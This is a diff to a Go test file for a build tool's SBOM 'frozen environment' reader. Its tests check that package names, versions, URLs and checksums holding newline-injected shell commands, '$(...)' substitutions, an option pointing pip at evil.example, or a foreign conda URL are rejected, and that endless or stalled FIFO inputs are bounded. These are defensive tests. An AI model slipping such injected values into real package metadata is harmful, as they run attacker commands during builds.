@@ -1,14 +1,18 @@
 package pins
 
 import (
+	"context"
+	"errors"
 	"os"
 	"path/filepath"
 	"reflect"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/swebuild/swebuild/builder/spec"
 	"github.com/swebuild/swebuild/core"
+	"github.com/swebuild/swebuild/internal/fifotest"
 	"github.com/swebuild/swebuild/sbom"
 )
 
@@ -74,14 +78,14 @@ func TestFrozenRule(t *testing.T) {
 
 func TestReadFrozenErrors(t *testing.T) {
 	dir := t.TempDir()
-	if _, err := ReadFrozen(dir); err == nil || !strings.Contains(err.Error(), "no environment documents") {
+	if _, err := ReadFrozen(context.Background(), dir); err == nil || !strings.Contains(err.Error(), "no environment documents") {
 		t.Errorf("empty dir: %v", err)
 	}
 	bad := filepath.Join(dir, "env.x.linux-amd64.cdx.json")
 	if err := os.WriteFile(bad, []byte("{"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := ReadFrozen(dir); err == nil || !strings.Contains(err.Error(), bad) {
+	if _, err := ReadFrozen(context.Background(), dir); err == nil || !strings.Contains(err.Error(), bad) {
 		t.Errorf("a broken document: %v, want its path named", err)
 	}
 }
@@ -171,5 +175,111 @@ func TestCondaPipSplit(t *testing.T) {
 	set.Apply(prof)
 	if prof.CondaExplicit != "" || len(prof.Spec.PipPackages) != 2 || prof.Spec.PipPackages[0] != "pytest==8.3.3" {
 		t.Errorf("profile recipe: explicit %q, pip %q", prof.CondaExplicit, prof.Spec.PipPackages)
+	}
+}
+
+// A document is data from a registry: a package name, version, URL or
+// checksum outside its grammar would become shell text in setup_env.sh (a
+// version 1.0%0Atouch ... in a purl ends the pip line and runs a command at
+// build time; a conda URL or md5 with a newline adds lines to the explicit
+// spec's heredoc, one of which may end it).
+// Each is refused before anything is rendered, by ReadFrozen naming the
+// file, the package and the field, and by Frozen given the document.
+func TestFrozenRefusesHostileDocuments(t *testing.T) {
+	condaPkg := func(name, version, build, url, md5 string) sbom.Package {
+		p := sbom.Package{Ecosystem: sbom.Conda, Name: name, Version: version, Build: build, Arch: "linux-64", URL: url}
+		if url == "" {
+			p.URL = "https://repo.anaconda.com/pkgs/main/linux-64/" + name + "-" + version + "-" + build + ".conda"
+		}
+		if md5 != "" {
+			p.Checksum = "md5:" + md5
+		}
+		return p
+	}
+	const goodMD5 = "0123456789abcdef0123456789abcdef"
+	for _, tc := range []struct {
+		name  string
+		pkg   sbom.Package
+		field string
+	}{
+		{"pip version with a newline (a purl with %0A)", sbom.Package{Ecosystem: sbom.PyPI, Name: "fixdep", Version: "1.0\ntouch /tmp/swebuild-frozen-pwned"}, "version"},
+		{"pip name with a newline", sbom.Package{Ecosystem: sbom.PyPI, Name: "x\ntouch /tmp/p", Version: "1.0"}, "name"},
+		{"pip version with a command substitution", sbom.Package{Ecosystem: sbom.PyPI, Name: "fixdep", Version: "1.0$(touch /tmp/p)"}, "version"},
+		{"pip version with an option after a space", sbom.Package{Ecosystem: sbom.PyPI, Name: "fixdep", Version: "1.0 --index-url=http://evil.example/simple"}, "version"},
+		{"pip source with a newline", sbom.Package{Ecosystem: sbom.PyPI, Name: "localpkg", URL: "localpkg @ file:///tmp/x\ntouch /tmp/p"}, "url"},
+		{"conda URL with a newline", condaPkg("pip", "24.2", "py39_0", "https://repo.anaconda.com/pkgs/main/linux-64/pip-24.2-py39_0.conda\ntouch /tmp/p", goodMD5), "url"},
+		{"conda URL with a quote", condaPkg("pip", "24.2", "py39_0", "https://repo.anaconda.com/pkgs/main/linux-64/x'y/pip-24.2-py39_0.conda", goodMD5), "url"},
+		{"conda URL of another package", condaPkg("pip", "24.2", "py39_0", "https://evil.example/linux-64/evil-1.0-0.conda", goodMD5), "url"},
+		{"conda md5 with a newline", condaPkg("pip", "24.2", "py39_0", "", goodMD5+"\ntouch /tmp/p"), "checksum"},
+		{"conda name with a quote", condaPkg("pip'", "24.2", "py39_0", "", goodMD5), "name"},
+		{"conda version with a hyphen", condaPkg("pip", "24.2-1", "py39_0", "https://repo.anaconda.com/pkgs/main/linux-64/pip-24.2-1-py39_0.conda", goodMD5), "version"},
+		{"deb version with a command substitution", sbom.Package{Ecosystem: sbom.Deb, Name: "bash", Version: "5.2$(id)", Arch: "amd64"}, "version"},
+		{"deb name with a space", sbom.Package{Ecosystem: sbom.Deb, Name: "bash dash", Version: "5.2", Arch: "amd64"}, "name"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			d := captured(t, core.AMD64, "fixture__calc-1")
+			d.Packages = append(d.Packages, tc.pkg)
+			raw, err := d.CycloneDX()
+			if err != nil {
+				t.Fatal(err)
+			}
+			dir := t.TempDir()
+			file := filepath.Join(dir, "env.fixture.x86_64.cdx.json")
+			if err := os.WriteFile(file, raw, 0o644); err != nil {
+				t.Fatal(err)
+			}
+			_, err = ReadFrozen(context.Background(), dir)
+			if err == nil || !strings.Contains(err.Error(), file+": package ") || !strings.Contains(err.Error(), ": "+tc.field+" ") {
+				t.Errorf("ReadFrozen: %v; want an error naming %s, the package and its %s", err, file, tc.field)
+			}
+			back, derr := sbom.Decode(raw)
+			if derr != nil {
+				t.Fatal(derr)
+			}
+			if _, err := Frozen([]*sbom.Document{back}); err == nil || !strings.Contains(err.Error(), ": "+tc.field+" ") {
+				t.Errorf("Frozen: %v; want an error naming the package's %s", err, tc.field)
+			}
+		})
+	}
+}
+
+// --freeze DIR with a document that never ends or never starts (a FIFO
+// named *.json): the endless one is refused at MaxFrozenDocument (bounded
+// by the bytes its writer wrote), the one with no writer or a silent
+// writer is given up when the context is done. Before, each was read
+// with os.ReadFile: without bound, and for ever.
+func TestReadFrozenEndlessAndStalledDocuments(t *testing.T) {
+	t.Run("endless", func(t *testing.T) {
+		dir := t.TempDir()
+		e := fifotest.NewEndless(t, dir, "env.x.linux-amd64.cdx.json", `{"bomFormat":"CycloneDX"}`, MaxFrozenDocument+8<<20)
+		done := make(chan error, 1)
+		go func() { _, err := ReadFrozen(context.Background(), dir); done <- err }()
+		select {
+		case err := <-done:
+			if !errors.Is(err, core.ErrTooLarge) || !strings.Contains(err.Error(), e.Path) {
+				t.Fatalf("err = %v; want the limit, naming %s", err, e.Path)
+			}
+		case <-e.Exceeded:
+			t.Fatalf("read more than %d MiB of an endless document (limit %d MiB)", e.Bound>>20, MaxFrozenDocument>>20)
+		}
+	})
+	for _, tc := range []struct {
+		name string
+		make func(t *testing.T, dir string) string
+	}{
+		{"no writer", func(t *testing.T, dir string) string { return fifotest.NoWriter(t, dir, "env.x.linux-amd64.cdx.json") }},
+		{"silent writer", func(t *testing.T, dir string) string { return fifotest.Silent(t, dir, "env.x.linux-amd64.cdx.json") }},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			p := tc.make(t, dir)
+			err := fifotest.Within(t, 100*time.Millisecond, 10*time.Second, func(ctx context.Context) error {
+				_, err := ReadFrozen(ctx, dir)
+				return err
+			})
+			if !errors.Is(err, context.Canceled) || !strings.Contains(err.Error(), p) {
+				t.Fatalf("err = %v; want context.Canceled naming %s", err, p)
+			}
+		})
 	}
 }
